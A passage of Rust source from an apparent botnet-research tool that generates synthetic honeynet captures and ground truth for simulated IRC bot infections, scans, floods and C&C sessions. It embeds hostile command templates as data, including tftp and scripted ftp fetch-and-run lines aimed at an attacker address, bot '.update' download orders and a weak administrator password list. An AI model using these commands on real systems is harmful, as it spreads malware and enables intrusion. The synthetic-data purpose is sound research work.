//! The scenario: what happens, when, to whom. Planning draws every choice
//! from one seeded ChaCha stream and records it in the truth; rendering
//! turns the plan into packets (job by job, in start-time order) without
//! further choices except per-job seeded details.

use crate::draw::{flow, free_port, pick, public_ip, word};
use crate::exploits::{client_script, SmbIds};
use crate::orders::{flood_order, parse_flood_args, parse_order, SCAN_ORDERS};
use crate::pcap::{flags, GreTunnel, Ip4, PcapFile};
use crate::proto;
use crate::specimen::{BotConfig, BotServer, ConfigEncoding, Packer, SpecimenSpec};
use crate::tcp::Tcp;
use crate::truth::*;
use botscope_core::tz::Zone;
use botscope_core::{FlowKey, Proto, Ts};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::Serialize;
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, BTreeSet};
use std::io;
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;

/// The antivirus hash list of the field, relative to its folder.
pub const AV_SIGNATURES: &str = "signatures/av-known.hsb";

/// 2005-05-19T00:00:00Z, inside the study's Table 8 period.
pub const DEFAULT_START: i64 = 1_116_460_800;

/// Scenario knobs.
#[derive(Clone, Debug, Serialize)]
pub struct SynthConfig {
    /// Seed of everything.
    pub seed: u64,
    /// Days covered.
    pub days: u32,
    /// Sensor addresses of the honeypot net.
    pub addresses: u32,
    /// Linear multiplier of event counts and of the background window.
    pub scale: f64,
    /// Wrap sensor traffic in GRE (outer IPs = tunnel endpoints).
    pub gre: bool,
    /// Time zone name or offset as given.
    pub tz: String,
    /// That zone, parsed (`botscope_core::tz::Zone::parse`): the diurnal
    /// joins are planned, and counted in the truth, in its local hours with
    /// the offset in force at each instant (daylight saving included).
    #[serde(skip)]
    pub zone: Zone,
    /// Background per-address average, kbps (Table 1).
    pub background_avg_kbps: f64,
    /// Background per-address peak (one minute per hour), kbps (Table 1).
    pub background_peak_kbps: f64,
    /// Flood packet rate, packets per second (durations are real).
    pub flood_pps: u32,
    /// Start, µs since the epoch.
    pub start_us: i64,
    /// Write resolver logs.
    pub resolver_logs: bool,
    /// Resolver-log client population.
    pub resolver_clients: u32,
    /// Resolver-log infected fraction.
    pub infected_fraction: f64,
    /// Background window in minutes (default: 60 × scale, at most the period).
    pub background_minutes: Option<u32>,
    /// Write spammers' relay traffic (off: redirect orders only).
    pub spam: bool,
}

impl Default for SynthConfig {
    fn default() -> Self {
        SynthConfig {
            seed: 1,
            days: 2,
            addresses: 192,
            scale: 1.0,
            gre: false,
            tz: "Asia/Tokyo".into(),
            zone: Zone::Fixed(9 * 3600),
            background_avg_kbps: 0.28,
            background_peak_kbps: 2.58,
            flood_pps: 20,
            start_us: DEFAULT_START * 1_000_000,
            resolver_logs: true,
            resolver_clients: 5_000,
            infected_fraction: 0.024,
            background_minutes: None,
            spam: true,
        }
    }
}

// Table 7 weights (attempt counts in the study).
const VECTOR_WEIGHTS: [f64; 7] = [
    371_142.0, 313_754.0, 278_586.0, 212_503.0, 1_046.0, 24.0, 12.0,
];
// Table 8 weights.
const COPY_WEIGHTS: [f64; 3] = [5_566.0, 1_214.0, 12.0];
// Table 9: ports and percent; "others" spread over 19 ports.
const IRC_PORTS: [(u16, f64); 9] = [
    (6667, 48.0),
    (5562, 29.0),
    (5122, 8.0),
    (65348, 6.0),
    (4150, 2.0),
    (6663, 1.0),
    (65267, 1.0),
    (10362, 1.0),
    (31337, 1.0),
];
const IRC_OTHER_PORTS: [u16; 19] = [
    6668, 6669, 7000, 8080, 1863, 3267, 4444, 5190, 6112, 6565, 7777, 8000, 8888, 9999, 11111,
    13000, 16667, 23232, 44444,
];
// Table 11: redirect ports and percent; "others" 1 %.
const SPAM_PORTS: [(u16, f64); 7] = [
    (3186, 37.0),
    (6329, 36.0),
    (3104, 13.0),
    (24853, 6.0),
    (47257, 4.0),
    (7430, 3.0),
    (0, 1.0),
];
const FLOOD_KINDS: [&str; 7] = [
    "ddos.synflood",
    "ddos.phatsyn",
    "ddos.phatwolk",
    "ddos.udpflood",
    "ddos.phaticmp",
    "ddos.targa3",
    "ddos.httpflood",
];
const FLOOD_WEIGHTS: [f64; 7] = [70.0, 5.0, 5.0, 5.0, 5.0, 5.0, 5.0];
// Daytime-heavy joins per local hour.
const DIURNAL: [f64; 24] = [
    3.0, 2.0, 1.0, 1.0, 1.0, 1.0, 2.0, 4.0, 6.0, 8.0, 9.0, 10.0, 10.0, 10.0, 10.0, 10.0, 9.0, 9.0,
    9.0, 8.0, 8.0, 7.0, 6.0, 4.0,
];
const DDNS_SUFFIXES: [&str; 8] = [
    "dyndns.org",
    "no-ip.info",
    "afraid.org",
    "ath.cx",
    "hopto.org",
    "zapto.org",
    "gameservers.example.net",
    "shell-host.example.com",
];
const WEAK_PASSWORDS: [&str; 8] = [
    "",
    "admin",
    "password",
    "123456",
    "1234",
    "root",
    "test",
    "administrator",
];

/// Which output capture a job writes to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Cap {
    Exploits,
    Infected,
}

/// A unit of rendering: starts at `t` and writes only packets at ≥ `t`.
#[derive(Clone, Debug)]
enum Job {
    Exploit { idx: u32 },
    Copy { idx: u32 },
    Scan { idx: u32 },
    Dns { idx: u32 },
    Irc { idx: u32 },
    Http { idx: u32 },
    Flood { idx: u32 },
    Spam { relay: u32, n: u32, t: i64 },
}

struct Spec {
    truth: SpecimenTruth,
    bytes: Vec<u8>,
}

/// The bind shell port exploits open for a typed fetch (Blaster's 4444).
const SHELL_PORT: u16 = 4444;
/// The FTP server port of Sasser's infecting hosts.
const SASSER_FTP_PORT: u16 = 5554;
/// How long before the fetch the shell connection opens, µs.
const SHELL_LEAD_US: i64 = 1_200_000;

/// How a copy is started (issue 15, classes 2 and 3).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum CopyStart {
    /// Decided from the copy's own ports, with no draw from the stream
    /// (honeynet attempts): see [`copy_shape`].
    ByPorts,
    /// As the method says, never typed.
    Plain,
    /// Typed into the exploit's bind shell: an FTP fetch (reverse
    /// connection) from `ftp_port` in active or passive mode, or a TFTP
    /// GET (`ftp_port` unused).
    Shell { ftp_port: Option<u16>, active: bool },
}

/// What a copy looks like on the wire.
#[derive(Clone, Debug)]
struct CopyShape {
    /// `tftp`, `ftp` or `tcp`.
    via: &'static str,
    /// FTP data connection opened by the infecting host (PORT).
    active: bool,
    /// FTP server port replacing the drawn one.
    ftp_port: Option<u16>,
    /// The command line typed into the bind shell.
    typed: Option<String>,
}

/// Decides a copy's shape. Honeynet attempts (`ByPorts`) take it from the
/// ports already drawn: a reverse connection to an even port is an FTP
/// fetch (passive, as before); half of those (even victim port) were typed
/// into a bind shell, and of these the ones whose victim port is 2 mod 4
/// use active mode and the others Sasser's FTP port 5554; a quarter of the
/// TFTP GETs (victim port 0 mod 4) were typed too. Share access never
/// binds a shell (its AT job is the instruction).
fn copy_shape(
    method: CopyMethod,
    vector: Vector,
    f: FlowKey,
    start: CopyStart,
    filename: &str,
) -> CopyShape {
    let shell_ok = vector != Vector::ShareAccess;
    let mut sh = CopyShape {
        via: "tcp",
        active: false,
        ftp_port: None,
        typed: None,
    };
    let attacker = f.resp_h;
    match method {
        CopyMethod::TcpPush => {}
        CopyMethod::TftpGet => {
            sh.via = "tftp";
            let typed = match start {
                CopyStart::ByPorts => shell_ok && f.orig_p.is_multiple_of(4),
                CopyStart::Plain => false,
                CopyStart::Shell { .. } => true,
            };
            if typed {
                sh.typed = Some(format!("tftp -i {attacker} GET {filename}"));
            }
        }
        CopyMethod::ReverseConnect => {
            let (ftp, typed) = match start {
                CopyStart::ByPorts => {
                    let ftp = f.resp_p.is_multiple_of(2);
                    (ftp, ftp && shell_ok && f.orig_p.is_multiple_of(2))
                }
                CopyStart::Plain => (f.resp_p.is_multiple_of(2), false),
                CopyStart::Shell { ftp_port, active } => {
                    sh.ftp_port = ftp_port;
                    sh.active = active;
                    (true, true)
                }
            };
            if ftp {
                sh.via = "ftp";
            }
            if typed {
                if start == CopyStart::ByPorts {
                    sh.active = f.orig_p % 4 == 2;
                    if !sh.active {
                        sh.ftp_port = Some(SASSER_FTP_PORT);
                    }
                }
                let port = sh.ftp_port.unwrap_or(f.resp_p);
                sh.typed = Some(format!(
                    "echo open {attacker} {port} > o & echo user 1 1 >> o & echo binary >> o & echo get {filename} >> o & echo bye >> o & ftp -n -s:o"
                ));
            }
        }
    }
    sh
}

/// A scheduled IRC line inside a session.
#[derive(Clone, Debug)]
struct IrcLine {
    t: i64,
    from_server: bool,
    text: String,
}

struct Gen {
    cfg: SynthConfig,
    rng: ChaCha8Rng,
    t: Truth,
    specs: Vec<Spec>,
    /// FQDN → addresses.
    cc: BTreeMap<String, Vec<Ipv4Addr>>,
    /// Per IRC session: scheduled lines (after the join block).
    irc_lines: Vec<Vec<IrcLine>>,
    /// Per IRC session: (topic order text).
    irc_topic: Vec<String>,
    /// Per update: (server ip, path, specimen index or None for 404/refused, refused).
    http: Vec<(Ipv4Addr, String, Option<u32>, bool)>,
    /// Per spam relay: request times.
    spam_times: Vec<Vec<i64>>,
    jobs: Vec<(i64, Cap, Job)>,
    resolver_ip: Ipv4Addr,
    herder: BTreeMap<String, String>,
}

/// Generates the whole field under `out` and returns its truth.
pub fn generate(cfg: &SynthConfig, out: &Path) -> io::Result<Truth> {
    std::fs::create_dir_all(out.join("pcap"))?;
    std::fs::create_dir_all(out.join("specimens"))?;
    let mut g = Gen {
        cfg: cfg.clone(),
        rng: ChaCha8Rng::seed_from_u64(cfg.seed),
        t: Truth::default(),
        specs: Vec::new(),
        cc: BTreeMap::new(),
        irc_lines: Vec::new(),
        irc_topic: Vec::new(),
        http: Vec::new(),
        spam_times: Vec::new(),
        jobs: Vec::new(),
        resolver_ip: Ipv4Addr::new(210, 150, 255, 53),
        herder: BTreeMap::new(),
    };
    g.t.version = 1;
    g.t.seed = cfg.seed;
    g.t.scenario = serde_json::to_value(cfg).unwrap_or_default();
    g.t.start = Ts(cfg.start_us);
    g.t.end = Ts(cfg.start_us + cfg.days as i64 * 86_400_000_000);
    g.t.tz_offset_s = cfg.zone.offset_at(cfg.start_us.div_euclid(1_000_000));
    g.plan_sensors();
    g.plan_specimens();
    g.write_specimens(out)?;
    g.plan_exploits();
    g.plan_bots();
    // Inputs of the three writers are drawn here, in a fixed order, so the
    // writers can run at once and still give the same bytes for a seed.
    let bg = g.plan_background();
    let jobs_seed: u64 = g.rng.random();
    // The channels beyond IRC come from their own stream (issue 20); their
    // C&C names are among the resolver logs' C&C names.
    let channels = crate::channels::plan(cfg, &g.t.sensors);
    let resolver_spec = cfg
        .resolver_logs
        .then(|| g.resolver_spec(&channels.cc_names()));
    let sensors = g.t.sensors.clone();
    let (bg_done, rt) = std::thread::scope(|sc| -> io::Result<_> {
        let bg_thread = sc.spawn(|| render_background(cfg, &sensors, &bg, out));
        let rs_thread = resolver_spec.as_ref().map(|spec| {
            sc.spawn(move || {
                let dir = out.join("resolver");
                std::fs::create_dir_all(&dir)?;
                crate::resolver::write_resolver_logs(spec, &dir)
            })
        });
        let jobs = g.render_jobs(out, jobs_seed);
        let bg_done = bg_thread
            .join()
            .map_err(|_| io::Error::other("background writer panicked"))?;
        let rt = match rs_thread {
            Some(h) => Some(
                h.join()
                    .map_err(|_| io::Error::other("resolver writer panicked"))??,
            ),
            None => None,
        };
        jobs?;
        Ok((bg_done?, rt))
    })?;
    let (bg_file, table1) = bg_done;
    g.t.files.insert(0, bg_file);
    // The person's chat session: its own stream, so nothing above changes.
    let (chat_file, chat) = crate::chat::render_chat(cfg.seed, cfg.start_us, out)?;
    g.t.files.push(chat_file);
    g.t.chat_sessions.push(chat);
    let ch = crate::channels::render(&channels, g.resolver_ip, out)?;
    g.t.files.extend(ch.files);
    g.t.http_cc = ch.http_cc;
    g.t.http_benign = ch.http_benign;
    g.t.p2p = ch.p2p;
    g.other_vantage_points(out)?;
    g.t.tables.table1 = table1;
    if let Some(rt) = rt {
        g.finish_resolver(rt, out)?;
    }
    g.tables();
    let truth_path = out.join("truth.json");
    let f = std::fs::File::create(&truth_path)?;
    let mut w = io::BufWriter::new(f);
    serde_json::to_writer_pretty(&mut w, &g.t).map_err(io::Error::other)?;
    io::Write::flush(&mut w)?;
    Ok(g.t)
}

impl Gen {
    fn n(&self, base: f64) -> usize {
        (base * self.cfg.scale).round().max(1.0) as usize
    }

    fn end_us(&self) -> i64 {
        self.cfg.start_us + self.cfg.days as i64 * 86_400_000_000
    }

    fn plan_sensors(&mut self) {
        let prefixes: [(u8, u8); 8] = [
            (61, 193),
            (210, 150),
            (219, 110),
            (220, 108),
            (59, 135),
            (124, 86),
            (202, 221),
            (218, 44),
        ];
        let mut set = BTreeSet::new();
        let mut list = Vec::new();
        while list.len() < self.cfg.addresses as usize {
            let (a, b) = prefixes[self.rng.random_range(0..prefixes.len())];
            let ip = Ipv4Addr::new(
                a,
                b,
                self.rng.random_range(1..=254),
                self.rng.random_range(2..=253),
            );
            // Non-contiguous: no two sensors in the same /28.
            let key = u32::from(ip) >> 4;
            if set.insert(key) {
                list.push(ip);
            }
        }
        self.t.sensors = list;
    }

    fn cc_name(&mut self) -> String {
        let sfx = DDNS_SUFFIXES[self.rng.random_range(0..DDNS_SUFFIXES.len())];
        let name = format!(
            "{}{}.{}",
            word(&mut self.rng, 5),
            self.rng.random_range(1..99),
            sfx
        );
        if !self.cc.contains_key(&name) {
            // Table 6: 19 % of names carry several addresses (up to 5).
            let n = if self.rng.random_bool(0.19) {
                self.rng.random_range(2..=5)
            } else {
                1
            };
            let addrs = (0..n).map(|_| public_ip(&mut self.rng)).collect();
            self.cc.insert(name.clone(), addrs);
            let h = format!("{}{}", word(&mut self.rng, 4), self.rng.random_range(0..99));
            self.herder.insert(name.clone(), h);
        }
        name
    }

    fn irc_port(&mut self) -> u16 {
        let mut w: Vec<f64> = IRC_PORTS.iter().map(|p| p.1).collect();
        w.push(3.0);
        let i = pick(&mut self.rng, &w);
        if i < IRC_PORTS.len() {
            IRC_PORTS[i].0
        } else {
            IRC_OTHER_PORTS[self.rng.random_range(0..IRC_OTHER_PORTS.len())]
        }
    }

    fn plan_specimens(&mut self) {
        let n_spec = self.n(10.0).clamp(4, 400);
        let n_bots = self.n(4.0).max(2);
        for i in 0..(n_spec + n_bots) {
            let nserv = if i == 0 || self.rng.random_bool(0.19) {
                self.rng.random_range(2..=3)
            } else {
                1
            };
            let mut servers = Vec::new();
            for _ in 0..nserv {
                let host = self.cc_name();
                let port = self.irc_port();
                servers.push(BotServer { host, port });
            }
            let clen = self.rng.random_range(3..7);
            let channel = format!("#{}", word(&mut self.rng, clen));
            let key = if self.rng.random_bool(0.7) {
                Some(word(&mut self.rng, 6))
            } else {
                None
            };
            let nick_prefix =
                ["JPN|", "[XP]", "USA|", "bot-", "r00t|"][self.rng.random_range(0..5)].to_string();
            let encoding = match self.rng.random_range(0..4) {
                0 | 1 => ConfigEncoding::Plain,
                2 => ConfigEncoding::Xor(self.rng.random_range(1..=255)),
                _ => ConfigEncoding::Utf16,
            };
            let packer = match self.rng.random_range(0..5) {
                0 | 1 => Packer::None,
                2 => Packer::Nrv2b,
                3 => Packer::Nrv2d,
                _ => Packer::Nrv2e,
            };
            let spec = SpecimenSpec {
                config: BotConfig {
                    servers,
                    channel,
                    key,
                    nick_prefix,
                },
                encoding,
                packer,
                family: (i % 5) as u32,
                variant: (i / 5) as u32,
                seed: self.rng.random(),
            };
            let bytes = crate::specimen::build_specimen(&spec);
            let sha = hex::encode(Sha256::digest(&bytes));
            self.specs.push(Spec {
                truth: SpecimenTruth {
                    id: i as u32,
                    path: format!("specimens/{sha}.bin"),
                    sha256: sha,
                    size: bytes.len() as u64,
                    family: spec.family,
                    variant: spec.variant,
                    encoding,
                    packer,
                    config: spec.config,
                    // Table 2: ~20 % of kinds are known to AV.
                    known: i % 5 == 0,
                    built_by_specimen_builder: true,
                },
                bytes,
            });
        }
    }

    fn write_specimens(&mut self, out: &Path) -> io::Result<()> {
        for s in &self.specs {
            let p = out.join(&s.truth.path);
            if p.exists() {
                let mut perm = std::fs::metadata(&p)?.permissions();
                #[allow(clippy::permissions_set_readonly_false)]
                perm.set_readonly(false);
                std::fs::set_permissions(&p, perm)?;
            }
            std::fs::write(&p, &s.bytes)?;
            #[cfg(unix)]
            {
                use std::os::unix::fs::PermissionsExt;
                std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o444))?;
            }
            self.t.specimens.push(s.truth.clone());
        }
        // The antivirus vendor's release current when the field began: the
        // specimens "known to AV" of Table 2, as a ClamAV SHA-256 hash list
        // (`sha256:size:name`), the form `specimen set add` reads.
        let mut hsb = String::new();
        for s in self.specs.iter().filter(|s| s.truth.known) {
            hsb.push_str(&format!(
                "{}:{}:Synthetic.IrcBot.F{}V{}\n",
                s.truth.sha256, s.truth.size, s.truth.family, s.truth.variant
            ));
        }
        let av = out.join(AV_SIGNATURES);
        if let Some(dir) = av.parent() {
            std::fs::create_dir_all(dir)?;
        }
        std::fs::write(av, &hsb)?;
        self.t.files.push(FileTruth {
            path: AV_SIGNATURES.into(),
            kind: "antivirus signatures at the field's start (hash list)".into(),
            packets: 0,
            bytes: hsb.len() as u64,
        });
        Ok(())
    }

    /// Picks the specimen an attacker spreads: known ones 90 % of the time.
    fn exploit_specimen(&mut self) -> u32 {
        let n_spec = self.n(10.0).clamp(4, 400);
        let known: Vec<u32> = (0..n_spec as u32).filter(|i| i % 5 == 0).collect();
        let unknown: Vec<u32> = (0..n_spec as u32).filter(|i| i % 5 != 0).collect();
        if self.rng.random_bool(0.9) || unknown.is_empty() {
            known[self.rng.random_range(0..known.len())]
        } else {
            unknown[self.rng.random_range(0..unknown.len())]
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn add_exploit(
        &mut self,
        ts: i64,
        attacker: Ipv4Addr,
        victim: Ipv4Addr,
        vector: Vector,
        cap: Cap,
        copy: Option<(CopyMethod, bool, u32)>,
        start: CopyStart,
    ) -> u32 {
        let file = match cap {
            Cap::Exploits => "pcap/honeynet-exploits.pcap",
            Cap::Infected => "pcap/infected.pcap",
        }
        .to_string();
        let sport = free_port(&mut self.rng, 1025, 5000);
        let (ports, proto_) = match vector {
            Vector::Ms03_026 | Vector::Ms03_039 => (vec![135], Proto::Tcp),
            Vector::Ms03_043 => (vec![135], Proto::Udp),
            Vector::Ms02_045 => (vec![139], Proto::Tcp),
            _ => (vec![445], Proto::Tcp),
        };
        let idx = self.t.exploits.len() as u32;
        let copy_id = copy.map(|_| self.t.copies.len() as u32);
        let filename = format!(
            "{}.exe",
            [
                "msblast",
                "wins",
                "svchost32",
                "msnmsgr",
                "winupd",
                "lsass32"
            ][self.rng.random_range(0..6)]
        );
        let mut instruction = None;
        if let Some((method, _, _)) = copy {
            if method == CopyMethod::TftpGet {
                instruction = Some(format!(
                    "cmd /c tftp -i {attacker} GET {filename} & start {filename}"
                ));
            }
        }
        let (credentials, share) = if vector == Vector::ShareAccess {
            let pw = WEAK_PASSWORDS[self.rng.random_range(0..WEAK_PASSWORDS.len())].to_string();
            let acct = ["administrator", "admin", "guest"][self.rng.random_range(0..3)].to_string();
            let share = if self.rng.random_bool(0.5) {
                "ADMIN$"
            } else {
                "C$"
            };
            (Some((acct, pw)), Some(share.to_string()))
        } else {
            (None, None)
        };
        self.t.exploits.push(ExploitTruth {
            id: idx,
            file: file.clone(),
            ts: Ts(ts),
            attacker,
            victim,
            vector,
            ports: ports.clone(),
            flow: flow(attacker, sport, victim, ports[0], proto_),
            instruction,
            credentials,
            share,
            copy: copy_id,
        });
        self.jobs.push((ts, cap, Job::Exploit { idx }));
        if let Some((method, success, specimen)) = copy {
            let tc = ts + self.rng.random_range(2_000_000..8_000_000);
            let s = &self.specs[specimen as usize].truth;
            let (sha, size) = (s.sha256.clone(), s.size);
            let f = match method {
                CopyMethod::TftpGet => flow(
                    victim,
                    free_port(&mut self.rng, 1025, 5000),
                    attacker,
                    69,
                    Proto::Udp,
                ),
                CopyMethod::TcpPush => flow(
                    attacker,
                    free_port(&mut self.rng, 1025, 5000),
                    victim,
                    free_port(&mut self.rng, 1024, 65000),
                    Proto::Tcp,
                ),
                CopyMethod::ReverseConnect => flow(
                    victim,
                    free_port(&mut self.rng, 1025, 5000),
                    attacker,
                    free_port(&mut self.rng, 1024, 65000),
                    Proto::Tcp,
                ),
            };
            let cid = self.t.copies.len() as u32;
            let shape = copy_shape(method, vector, f, start, &filename);
            let mut f = f;
            if let Some(p) = shape.ftp_port {
                f.resp_p = p;
            }
            let ftp = (shape.via == "ftp").then(|| {
                let (v, a) = (victim, attacker);
                FtpFetchTruth {
                    mode: if shape.active { "active" } else { "passive" }.into(),
                    data_flow: if shape.active {
                        flow(a, 20, v, f.orig_p + 1, Proto::Tcp)
                    } else {
                        flow(v, f.orig_p + 1, a, f.resp_p + 1, Proto::Tcp)
                    },
                }
            });
            // A typed fetch starts with the shell the exploit bound, 1.2 s
            // before the fetch; the exploit then carries no instruction.
            let shell = shape.typed.map(|typed| {
                self.t.exploits[idx as usize].instruction = None;
                ShellTruth {
                    flow: flow(attacker, sport + 1, victim, SHELL_PORT, Proto::Tcp),
                    ts: Ts(tc - SHELL_LEAD_US),
                    typed,
                }
            });
            let job_t = shell.as_ref().map_or(tc, |_| tc - SHELL_LEAD_US);
            self.t.copies.push(CopyTruth {
                id: cid,
                file,
                exploit: idx,
                ts: Ts(tc),
                method,
                flow: f,
                filename,
                sha256: sha,
                size,
                success,
                specimen,
                via: shape.via.into(),
                ftp,
                shell,
            });
            self.jobs.push((job_t, cap, Job::Copy { idx: cid }));
        }
        idx
    }

    fn plan_exploits(&mut self) {
        let n = self.n(120.0 * self.cfg.days as f64).max(7);
        let start = self.cfg.start_us;
        let span = self.end_us() - start - 60_000_000;
        let attackers: Vec<Ipv4Addr> = (0..(n / 3).max(3))
            .map(|_| public_ip(&mut self.rng))
            .collect();
        let mut copies_planned = 0usize;
        for i in 0..n {
            // Every vector and copy method appears at least once.
            let vector = if i < 7 {
                Vector::ALL[i]
            } else {
                Vector::ALL[pick(&mut self.rng, &VECTOR_WEIGHTS)]
            };
            let ts = start + self.rng.random_range(0..span);
            let attacker = attackers[self.rng.random_range(0..attackers.len())];
            let victim = self.t.sensors[self.rng.random_range(0..self.t.sensors.len())];
            // The first reverse connection (after MS04-011, the second
            // attempt) is Sasser's: a typed FTP script, the infecting
            // host's FTP server on 5554, passive mode.
            let start = if copies_planned == 1 {
                CopyStart::Shell {
                    ftp_port: Some(SASSER_FTP_PORT),
                    active: false,
                }
            } else {
                CopyStart::ByPorts
            };
            let copy = if i < 7 || self.rng.random_bool(0.85) {
                let method = if copies_planned < 3 {
                    [
                        CopyMethod::TftpGet,
                        CopyMethod::ReverseConnect,
                        CopyMethod::TcpPush,
                    ][copies_planned]
                } else {
                    [
                        CopyMethod::TftpGet,
                        CopyMethod::TcpPush,
                        CopyMethod::ReverseConnect,
                    ][pick(&mut self.rng, &COPY_WEIGHTS)]
                };
                copies_planned += 1;
                let success = self.rng.random_bool(if method == CopyMethod::TftpGet {
                    0.93
                } else {
                    0.97
                });
                let sp = self.exploit_specimen();
                Some((method, success, sp))
            } else {
                None
            };
            self.add_exploit(ts, attacker, victim, vector, Cap::Exploits, copy, start);
        }
    }

    /// Delay between flood packets the orders state, ms: what
    /// `flood_pps` makes the rendered floods show.
    fn flood_delay_ms(&self) -> u32 {
        1000 / self.cfg.flood_pps.max(1)
    }

    fn local_hour(&self, t: i64) -> usize {
        let secs = t.div_euclid(1_000_000);
        ((secs + i64::from(self.cfg.zone.offset_at(secs))).rem_euclid(86_400) / 3600) as usize
    }

    fn plan_bots(&mut self) {
        let n_spec = self.n(10.0).clamp(4, 400);
        let n_bots = self.n(4.0).max(2);
        let days = self.cfg.days as i64;
        let mut ddos_given = 0usize;
        let mut redirect_given = 0usize;
        for b in 0..n_bots {
            let bot = self.t.sensors[b % self.t.sensors.len()];
            let specimen = (n_spec + b) as u32;
            let cfgb = self.specs[specimen as usize].truth.config.clone();
            let mut seq: Vec<(String, Ts)> = Vec::new();
            let t_inf = self.cfg.start_us + self.rng.random_range(600_000_000..6 * 3_600_000_000);
            let attacker = public_ip(&mut self.rng);
            let vector = [
                Vector::Ms03_026,
                Vector::Ms04_011,
                Vector::ShareAccess,
                Vector::Ms03_039,
            ][b % 4];
            let mut method = if self.rng.random_bool(0.82) {
                CopyMethod::TftpGet
            } else {
                CopyMethod::TcpPush
            };
            // Issue 15, classes 2 and 3: the second bot of every four is
            // infected the way Sasser spread (LSASS, a bind shell, a typed
            // FTP script, the infecting host's FTP server on 5554, active
            // mode); the fourth by a `tftp` typed into the shell.
            let start = match b % 4 {
                1 => {
                    method = CopyMethod::ReverseConnect;
                    CopyStart::Shell {
                        ftp_port: Some(SASSER_FTP_PORT),
                        active: true,
                    }
                }
                3 => {
                    method = CopyMethod::TftpGet;
                    CopyStart::Shell {
                        ftp_port: None,
                        active: false,
                    }
                }
                _ => CopyStart::Plain,
            };
            let e = self.add_exploit(
                t_inf,
                attacker,
                bot,
                vector,
                Cap::Infected,
                Some((method, true, specimen)),
                start,
            );
            seq.push(("exploit".into(), Ts(t_inf)));
            let cp = self.t.exploits[e as usize].copy.unwrap_or(0);
            if let Some(sh) = &self.t.copies[cp as usize].shell {
                seq.push(("shell".into(), sh.ts));
            }
            let t_copy = self.t.copies[cp as usize].ts.0;
            seq.push(("copy".into(), Ts(t_copy)));
            // Neighbour scan at once: own /24 then own /16.
            let t_scan = t_copy + 15_000_000;
            let o = bot.octets();
            let port = if vector == Vector::Ms04_011 { 445 } else { 135 };
            for (k, range) in [
                format!("{}.{}.{}.0/24", o[0], o[1], o[2]),
                format!("{}.{}.0.0/16", o[0], o[1]),
            ]
            .into_iter()
            .enumerate()
            {
                let count = self.rng.random_range(40..120);
                let st = t_scan + k as i64 * 40_000_000;
                let idx = self.t.scans.len() as u32;
                self.t.scans.push(ScanTruth {
                    order: None,
                    source: bot,
                    range,
                    port,
                    start: Ts(st),
                    end: Ts(st + (count as i64 - 1) * 300_000),
                    count,
                });
                self.jobs.push((st, Cap::Infected, Job::Scan { idx }));
            }
            seq.push(("scan".into(), Ts(t_scan)));
            // DNS then IRC.
            let server = cfgb.servers[0].clone();
            let t_dns = t_scan + 100_000_000;
            let answers = self.cc.get(&server.host).cloned().unwrap_or_default();
            let d = self.t.dns_lookups.len() as u32;
            self.t.dns_lookups.push(DnsLookupTruth {
                client: bot,
                resolver: self.resolver_ip,
                qname: server.host.clone(),
                answers: answers.clone(),
                ts: Ts(t_dns),
            });
            self.jobs.push((t_dns, Cap::Infected, Job::Dns { idx: d }));
            seq.push(("dns".into(), Ts(t_dns)));
            // Join times: the first right away, then diurnal ones each day.
            let mut joins = vec![t_dns + 2_000_000];
            for day in 0..days {
                let k = self.rng.random_range(2..=3);
                for _ in 0..k {
                    let lh = pick(&mut self.rng, &DIURNAL) as i64;
                    let day_start = self.cfg.start_us + day * 86_400_000_000;
                    let off = self.cfg.zone.offset_at(day_start.div_euclid(1_000_000));
                    let day_start_local = day_start - i64::from(off) * 1_000_000;
                    let mut t = day_start_local
                        + lh * 3_600_000_000
                        + self.rng.random_range(0..3_600_000_000);
                    if t < self.cfg.start_us {
                        t += 86_400_000_000;
                    }
                    if t > joins[0] + 3_600_000_000 && t < self.end_us() - 1_800_000_000 {
                        joins.push(t);
                    }
                }
            }
            joins.sort();
            joins.dedup_by(|a, b| *a - *b < 2 * 3_600_000_000);
            // Updates per day: 2,3,4,6 with weights giving 3.4 on average.
            let mut updates_per_day: Vec<u32> = (0..days)
                .map(|_| [2, 3, 4, 6][pick(&mut self.rng, &[2.0, 4.0, 3.0, 1.0])])
                .collect();
            let nick = format!(
                "{}{:05}",
                cfgb.nick_prefix,
                self.rng.random_range(0..100_000)
            );
            let herder = self
                .herder
                .get(&server.host)
                .cloned()
                .unwrap_or_else(|| "herder".into());
            let srv_ip = answers
                .first()
                .copied()
                .unwrap_or(Ipv4Addr::new(0, 0, 0, 0));
            let srv_name = format!("irc.{}", server.host);
            for (si, &join_t) in joins.iter().enumerate() {
                let connect = join_t - 1_500_000;
                let next = joins.get(si + 1).copied().unwrap_or(self.end_us());
                let dur = self.rng.random_range(1_200_000_000..3 * 3_600_000_000i64);
                let end = (join_t + dur)
                    .min(next - 600_000_000)
                    .min(self.end_us() - 60_000_000)
                    .max(join_t + 300_000_000);
                let sid = self.t.irc_sessions.len() as u32;
                let day =
                    ((join_t - self.cfg.start_us) / 86_400_000_000).clamp(0, days - 1) as usize;
                let day_sessions = joins
                    .iter()
                    .filter(|&&j| {
                        ((j - self.cfg.start_us) / 86_400_000_000).clamp(0, days - 1) as usize
                            == day
                    })
                    .count()
                    .max(1) as u32;
                let sess_in_day = joins[..si]
                    .iter()
                    .filter(|&&j| {
                        ((j - self.cfg.start_us) / 86_400_000_000).clamp(0, days - 1) as usize
                            == day
                    })
                    .count() as u32;
                let mut lines: Vec<IrcLine> = Vec::new();
                let mut privmsgs = 0u32;
                // Topic order.
                let topic = SCAN_ORDERS[self.rng.random_range(0..SCAN_ORDERS.len())].to_string();
                let mut order_list: Vec<(i64, String, &'static str)> =
                    vec![(join_t, topic.clone(), "topic")];
                let mut ot = join_t + 5_000_000;
                // This session's share of the day's updates.
                let share = updates_per_day[day] / day_sessions
                    + u32::from(sess_in_day < updates_per_day[day] % day_sessions);
                for _ in 0..share {
                    let id = self.rng.random_range(1000..99999);
                    let web = public_ip(&mut self.rng);
                    order_list.push((
                        ot,
                        format!(".update http://{web}/{}.exe {id}", word(&mut self.rng, 6)),
                        "privmsg",
                    ));
                    ot += self.rng.random_range(60_000_000..600_000_000);
                }
                if si == joins.len() - 1 {
                    updates_per_day[day] = 0;
                }
                // Other orders.
